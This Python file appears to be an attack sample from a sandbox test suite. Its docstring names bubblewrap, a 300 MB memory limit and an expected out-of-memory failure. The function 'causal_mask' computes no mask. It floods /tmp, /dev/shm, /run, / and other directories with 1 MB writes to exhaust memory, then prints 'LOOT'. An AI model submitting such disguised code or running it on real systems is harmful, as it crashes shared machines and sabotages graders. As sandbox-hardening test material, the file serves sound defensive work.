"""Fills memory with files on every file system that lives in memory, past all size limits.

levels: bubblewrap
memory_mb: 300
checks: test_the_mask_fits_every_length
user: not promised: files limited in size, not in number
process: not promised: files limited in size, not in number
outcomes: failed out_of_memory
"""

import os

if os.path.exists("/etc/passwd") and os.getuid() not in (65_534, *range(61_200, 63_200)):
    raise SystemExit("this attack runs inside a sandbox only")

PIECE = b"x" * 2**20
FOLDERS = ("/tmp", "/dev/shm", "/dev", "/run", "/proc", "/usr/lib/python3", "/var/tmp", "/")


def causal_mask(*args, **kwargs):
    written = 0
    for folder in FOLDERS:
        for number in range(16):
            try:
                with open(f"{folder}/sw-attack-{number}", "wb", buffering=0) as file:
                    for _ in range(50):
                        written += file.write(PIECE)
            except OSError:
                pass
    if written > 300 << 20:
        print(f"LOOT: {written >> 20} MB of files in memory")
    return written
